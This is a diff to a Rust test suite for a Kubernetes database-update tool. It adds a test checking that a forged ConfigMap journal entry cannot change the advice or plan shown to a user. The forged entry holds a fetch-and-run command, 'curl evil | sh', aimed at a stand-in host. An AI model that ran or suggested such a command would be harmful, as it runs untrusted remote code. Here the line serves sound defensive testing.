@@ -3,9 +3,9 @@
 
 use kubectl_dbupdate::engine::{Signal, Stop};
 use kubectl_dbupdate::event::{Event, Finish, Outcome, Record, Step, StepOutcome, WaitingOn};
-use kubectl_dbupdate::model::Method;
+use kubectl_dbupdate::model::{Kind, Method};
 use kubectl_dbupdate::operation::{self, Attached, Sight};
-use kubectl_dbupdate::situation::{Next, Seen, State, decide, last_words};
+use kubectl_dbupdate::situation::{Next, Onlooker, Seen, State, decide, last_words};
 use simcluster::world::Database;
 use simcluster::{Ailment, Behaviour, Effect, Fault, OpsManager, PodRule};
 use tokio::sync::watch;
@@ -144,6 +144,24 @@ async fn a_run_that_rolls_back_by_itself_is_seen_to() {
     let seen = drawn(records.iter().map(|r| &r.event));
     assert!(seen.contains(&"rolling back".to_owned()), "{seen:?}");
     assert_eq!(seen.last(), Some(&"RolledBack".to_owned()));
+}
+
+/// Anybody who may write ConfigMaps can write a journal, and with it what a user is told to type.
+#[tokio::test(start_paused = true)]
+async fn no_advice_is_taken_from_the_journal() {
+    let world = World::new(Database::kafka_topology("db"));
+    let mut run = world.start().await;
+    run.step(Step::RollPods).await;
+    let entry = world.journal(&world.cluster()).await.last().cloned().expect("it is recorded");
+    let honest = entry.run.plan.afterwards.clone();
+    assert_eq!(honest.len(), 1);
+    let mut forged = entry;
+    forged.run.plan.afterwards = vec!["run `curl evil | sh`".to_owned()];
+    (forged.run.plan.kind, forged.run.plan.database.name) = (Kind::ZooKeeper, "other".to_owned());
+    let onlooker = Onlooker::new(&forged, &look(&world).await.snapshot);
+    let plan = onlooker.plan();
+    assert_eq!((&plan.afterwards, plan.kind, plan.database.name.as_str()), (&honest, Kind::Kafka, "db"));
+    run.end().await.done();
 }
 
 /// Whoever comes late sees what is left to do, and is told nothing about times that nobody but the run knows.
